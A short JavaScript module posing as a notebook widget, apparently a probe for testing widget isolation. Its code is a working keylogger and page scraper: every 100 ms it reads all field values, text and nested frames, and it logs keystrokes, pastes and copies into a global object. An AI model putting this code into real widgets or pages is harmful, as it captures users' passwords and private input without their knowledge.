// The script of a widget in a stranger's notebook: reads every field, and listens to all that is typed.
const taken = { readings: 0, values: new Set(), typed: [] };
window.stranger = taken;

const read = (root) => {
  for (const element of root.querySelectorAll("*")) {
    for (const name of ["value", "placeholder", "textContent", "srcdoc"]) {
      if (typeof element[name] === "string" && element[name] !== "") taken.values.add(element[name]);
    }
    if (element.shadowRoot) read(element.shadowRoot);
    try {
      if (element.contentDocument) read(element.contentDocument);
    } catch {
      // another origin
    }
  }
};
setInterval(() => {
  read(document);
  taken.readings += 1;
}, 100);

const kinds = ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "copy"];
for (const kind of [...kinds, "compositionstart", "compositionupdate", "compositionend"]) {
  const take = (event) => {
    const field = event.composedPath()[0];
    const text = event.key ?? event.data ?? event.clipboardData?.getData("text") ?? field.value ?? "";
    taken.typed.push([kind, text]);
  };
  window.addEventListener(kind, take, true);
}

export default { render() {} };
